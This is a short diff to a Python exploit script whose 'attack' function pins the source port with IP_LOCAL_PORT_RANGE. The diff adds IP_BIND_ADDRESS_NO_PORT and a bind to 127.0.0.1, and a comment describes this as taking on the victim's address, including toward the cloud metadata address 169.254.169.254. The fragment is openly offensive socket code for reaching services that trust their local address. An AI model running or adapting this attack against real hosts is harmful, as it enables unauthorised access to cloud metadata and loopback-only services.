@@ -13,6 +13,7 @@ import struct
 import sys
 
 IP_LOCAL_PORT_RANGE = 51
+IP_BIND_ADDRESS_NO_PORT = 24
 
 
 def attack(host: str, port: int, local_port: int) -> str:
@@ -20,6 +21,9 @@ def attack(host: str, port: int, local_port: int) -> str:
     sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
     rng = struct.pack("I", local_port | (local_port << 16))
     sock.setsockopt(socket.SOL_IP, IP_LOCAL_PORT_RANGE, rng)
+    # The victim's address too, even towards 169.254.169.254; the port is picked at connect.
+    sock.setsockopt(socket.SOL_IP, IP_BIND_ADDRESS_NO_PORT, 1)
+    sock.bind(("127.0.0.1", 0))
     sock.settimeout(5)
     sock.connect((host, port))
     got = sock.getsockname()[1]
